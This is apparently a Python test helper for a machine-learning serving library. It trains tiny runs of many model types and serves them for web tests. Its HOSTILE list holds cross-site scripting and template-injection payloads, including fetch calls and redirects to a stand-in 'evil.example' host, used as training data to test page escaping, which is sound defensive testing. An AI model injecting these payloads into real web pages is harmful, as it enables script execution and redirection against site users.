"""Small trained runs of four kinds, and servers of them."""

import threading
import wave
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any

import torch
from PIL import Image

import transom
from transom.serving.explorer import Explorer
from transom.serving.served_model import ServedModel
from transom.serving.server import ExploreServer

MODEL = ("model.d_model=32", "model.n_heads=4", "model.d_ff=48")
LEARNING = ("training.learning_rate=2e-2", "training.schedule.warmup_steps=1")
"""Fast, so that attention is not uniform."""

TRAINING = ("training.max_steps=4", "training.validate_every=2", "training.checkpoint_every=2", "training.precision=fp32", *LEARNING)
TEXTS = (*MODEL, *TRAINING, "training.batch_tokens=256")
FEW_PHRASES = ("data.generate.n_train=100", "data.generate.n_valid=10", "data.generate.n_test=10")
LINES = ("the cat sees the dog\tanimals", "a ship sails on the sea\tships", "the dog sleeps\tanimals", "ships carry wood\tships")
TEXT = "the cat sees the dog and the dog sees the cat\n"
INPUTS = {"translator": "a b c d e f", "language": "the cat sees ", "classifier": "the cat sees a ship on the sea"}
INPUTS |= dict.fromkeys(("experts", "masked", "memory", "routed"), "the cat sees ")
INPUTS |= dict.fromkeys(("recurrent", "tagger", "embedder"), "the fast wolf")
"""An input of each model of texts."""

TARGET = "f e d c b a"
"""A translation for the translator."""


_CALLS = ("alert(1)", "parent.hits=1", "fetch('//evil.example')")
_WRAPPERS = (
    *("<script>{}</script>", "<img/src=x/onerror={}>", "<svg/onload={}>", "<body/onload={}>", "<iframe/src=javascript:{}>"),
    *("javascript:{}", '"><script>{}</script>', "'><script>{}</script>", "</script><script>{}</script>", "--><script>{}</script>"),
    *("</textarea><script>{}</script>", "</style><img/src=x/onerror={}>", '"/onfocus={}/autofocus/x="', "<details/open/ontoggle={}>"),
    *("${{{}}}", "{{{{constructor.constructor('{}')()}}}}"),
)
HOSTILE = [wrapper.format(call) for wrapper in _WRAPPERS for call in _CALLS]
HOSTILE += ["\u202e<b>evil</b>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example>"]
HOSTILE += ["<!--", "]]>&lt;script&gt;"]
"""Texts that are scripts, markup or templates to a careless page."""


class Runs(dict[str, Path]):
    """Runs by name, trained for a few steps when they are asked for."""

    def __init__(self, folder: Path) -> None:
        """Store the folder in which they are written."""
        self.folder = folder

    def __missing__(self, name: str) -> Path:
        """Train a run."""
        getattr(self, f"_train_{name}")(self.folder / name)
        return self.setdefault(name, self.folder / name)

    def _train_translator(self, run: Path) -> None:
        transom.train("reverse", run, [*TEXTS, "model.n_encoder_layers=2", "model.n_decoder_layers=2", "training.validate_bleu=4"])

    def _train_language(self, run: Path) -> None:
        """Train a decoder with pre-norm, rotary positions and grouped queries."""
        model = ["model.n_layers=2", "model.max_seq_len=2048", "model.norm_placement=pre", "model.position=rotary", "model.n_kv_heads=2"]
        transom.train("shakespeare-char", run, [*TEXTS, *self._texts(), *model])

    def _train_classifier(self, run: Path) -> None:
        (self.folder / "labeled.tsv").write_text("".join(f"{line}\n" for line in LINES * 30), encoding="utf-8")
        data = [f"data.train.file={self.folder / 'labeled.tsv'}", "tokenizer.vocab_size=280", "model.n_layers=2"]
        transom.train("text-classes", run, [*TEXTS, *data])

    def _train_hostile(self, run: Path) -> None:
        """Train a classifier whose tokens, classes, samples and folder are scripts."""
        words = [text for text in HOSTILE if not text.split()[1:]]
        lines = [f"{word} ship {words[0]}\t{HOSTILE[i % 6]}\n" for i, word in enumerate(words * 3)]
        (self.folder / "hostile.tsv").write_text("".join(lines), encoding="utf-8")
        data = [f"data.train.file={self.folder / 'hostile.tsv'}", "tokenizer.kind=whitespace", "tokenizer.lowercase=false"]
        transom.train("text-classes", run, [*TEXTS, *data, "tokenizer.vocab_size=100", "model.n_layers=2"])

    def _train_pictures(self, run: Path) -> None:
        stem = ["model.patch_size=2", "model.stem=none", "model.n_layers=2", "model.pooling=cls"]
        transom.train("digits-vit", run, [*MODEL, *TRAINING, *stem, "training.batch_size=16"])

    def _train_stem(self, run: Path) -> None:
        """Train a Vision Transformer with convolutions before its patches."""
        transom.train("digits-vit", run, [*MODEL, *TRAINING, "model.n_layers=1", "training.batch_size=16"])

    def _train_sounds(self, run: Path) -> None:
        data = ["data.generate.n_train=90", "data.generate.n_valid=18", "data.generate.n_test=18", "training.batch_size=8"]
        transom.train("synthetic-sounds", run, [*MODEL, *TRAINING, *data, "model.n_layers=1"])

    def _texts(self) -> list[str]:
        """Write a text, and return the options that make it the data of a run."""
        (self.folder / "text.txt").write_text(TEXT * 60, encoding="utf-8")
        return [f"data.root={self.folder}", "data.train.files=text.txt", "data.valid.files=text.txt", "tokenizer.vocab_size=60"]

    def _train_experts(self, run: Path) -> None:
        """Train a decoder with mixtures of three experts, of which two read a token, and the position bias of ALiBi."""
        experts = ["model.feed_forward.kind=moe", "model.feed_forward.n_experts=3", "model.feed_forward.top_k=2"]
        transom.train("shakespeare-char", run, [*TEXTS, *self._texts(), *experts, "model.n_layers=2", "model.position=alibi"])

    def _train_routed(self, run: Path) -> None:
        """Train a decoder whose second block reads some tokens only."""
        depth = ["model.depth.kind=mod", "model.depth.capacity=0.5", "model.depth.every=2", "model.n_layers=2"]
        transom.train("shakespeare-char", run, [*TEXTS, *self._texts(), *depth])

    def _train_memory(self, run: Path) -> None:
        """Train a language model of LSTMs."""
        transom.train(
            "shakespeare-lstm", run, [*TRAINING, *self._texts(), "training.batch_tokens=256", "model.d_model=32", "model.n_layers=2"]
        )

    def _train_masked(self, run: Path) -> None:
        transom.train("text-masked", run, [*TEXTS, *self._texts(), "tokenizer.kind=char", "model.n_layers=2", "model.max_seq_len=64"])

    def _train_tagger(self, run: Path) -> None:
        transom.train("phrasebook-tags", run, [*TEXTS, *FEW_PHRASES, "tokenizer.vocab_size=300"])

    def _train_embedder(self, run: Path) -> None:
        transom.train("sentences", run, [*TEXTS, *FEW_PHRASES, "tokenizer.vocab_size=300"])

    def _train_recurrent(self, run: Path) -> None:
        """Train a translator of LSTMs with attention over the source."""
        sizes = ["model.d_model=32", "training.batch_tokens=256", "training.validate_bleu=2"]
        transom.train("phrasebook-lstm", run, [*TRAINING, *FEW_PHRASES, *sizes])


NAMES = ("translator", "language", "classifier", "pictures")
FAMILIES = ("experts", "masked", "recurrent", "memory", "sounds", "tagger", "embedder")
"""Further kinds of models."""


def picture(file: Path, seed: int = 1) -> Path:
    """Write a picture of 8 x 8 random gray values."""
    pixels = torch.randint(256, (8, 8), generator=torch.Generator().manual_seed(seed), dtype=torch.uint8)
    Image.fromarray(pixels.numpy()).save(file)
    return file


def sound(file: Path) -> Path:
    """Write a second of two tones, 16,000 samples of 16 bits."""
    time = torch.arange(16000) / 16000
    tone = (0.3 * (2 * torch.pi * 440 * time).sin() + 0.2 * (2 * torch.pi * 990 * time).sin()) * 2**15
    with wave.open(str(file), "wb") as out:
        out.setnchannels(1)
        out.setsampwidth(2)
        out.setframerate(16000)
        out.writeframes(tone.to(torch.int16).numpy().tobytes())
    return file


@contextmanager
def serve(*models: Path | ServedModel) -> Iterator[ExploreServer]:
    """Serve runs or loaded models from a thread."""
    loaded: Sequence[ServedModel] = [each if isinstance(each, ServedModel) else ServedModel.load(each) for each in models]
    with TemporaryDirectory() as uploads, ExploreServer(Explorer(list(loaded), Path(uploads))) as server:
        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
        thread.start()
        try:
            yield server
        finally:
            server.shutdown()
            thread.join()


def with_a_changed_weight(run: Path) -> ServedModel:
    """Load a run, and change one weight of the keys of its first block."""
    model: Any = ServedModel.load(run)
    stack = getattr(model.network, "encoder", None) or model.network.decoder
    with torch.no_grad():
        next(parameter for name, parameter in stack.blocks[0].attn.named_parameters() if "k" in name)[0] += 0.5
    return model
